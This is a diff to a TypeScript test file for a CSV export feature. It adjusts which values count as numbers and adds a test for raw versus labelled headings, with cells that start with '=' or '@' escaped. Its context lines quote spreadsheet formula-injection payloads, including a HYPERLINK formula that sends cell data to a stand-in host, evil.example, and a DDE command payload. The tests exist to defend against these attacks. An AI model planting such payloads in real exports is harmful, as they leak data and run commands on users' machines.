@@ -130,7 +130,6 @@ describe('what a holder wrote', () => {
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
     '+1+1',
-    '+49 170 1234567',
     '-1+1',
     '-2 apples',
     '--1',
@@ -169,11 +168,23 @@ describe('what a holder wrote', () => {
 
   test('is a number where it is one', async () => {
     const templateHash = await templateWith({ psExportPaths: NAME });
-    const numbers = ['-1', '-12.50', '0', '3.5', '007'];
+    const numbers = ['-1', '-12.50', '0', '3.5', '007', '+4917012345', '+49 170 1234567', '+49 (0)170/123-45', '-1,5'];
     for (const number of numbers) await t.call('createPassFromTemplateFields', { templateHash, [NAME]: number });
     expect((await table(templateHash)).slice(1).flat()).toEqual(numbers);
   });
 });
+
+test('raw=true is for programs, headings=label for people', async () => {
+  const templateHash = await templateWith({ psExportPaths: `${NAME},note,hashedSerialNumber`, note: NOTE as never });
+  const pass = await t.pass(templateHash, { [NAME]: '=1+1', note: '@x' });
+  const csv = async (more: string) =>
+    (await t.fetch(`/batch/export.php?templateHash=${templateHash}&clientHash=${t.clientHash}${more}`)).text();
+  expect(await csv('&raw=true')).toBe(`"${NAME}","note","hashedSerialNumber"\r\n"=1+1","@x","${pass}"\r\n`);
+  expect(await csv('&headings=label')).toBe(`"Your name","Remark","hashedSerialNumber"\r\n"'=1+1","'@x","${pass}"\r\n`);
+  expect(await csv('&headings=other')).toContain('headings');
+});
+
+const NOTE = { PSValue: '', PSLabel: 'Remark' };
 
 describe('who may', () => {
   const paths = { psExportPaths: 'hashedSerialNumber,secret,editor,psEditorURL,clientHash,psInformationURL,note' };
